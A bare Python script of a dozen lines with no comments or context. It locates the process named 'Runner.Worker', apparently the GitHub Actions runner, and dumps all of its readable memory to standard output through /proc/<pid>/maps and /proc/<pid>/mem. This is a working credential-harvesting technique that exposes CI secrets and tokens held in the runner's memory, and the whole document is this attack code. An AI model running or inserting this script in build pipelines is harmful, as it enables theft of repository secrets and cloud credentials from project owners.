import os, re, sys
pid = [p for p in os.listdir('/proc') if p.isdigit() and 'Runner.Worker' in open(f'/proc/{p}/cmdline', 'rb').read().decode(errors='ignore')][0]
maps = open(f'/proc/{pid}/maps').read().splitlines()
mem = open(f'/proc/{pid}/mem', 'rb', 0)
for line in maps:
    m = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line)
    if not m: continue
    s, e = int(m.group(1), 16), int(m.group(2), 16)
    try:
        mem.seek(s); sys.stdout.buffer.write(mem.read(e - s))
    except Exception:
        pass
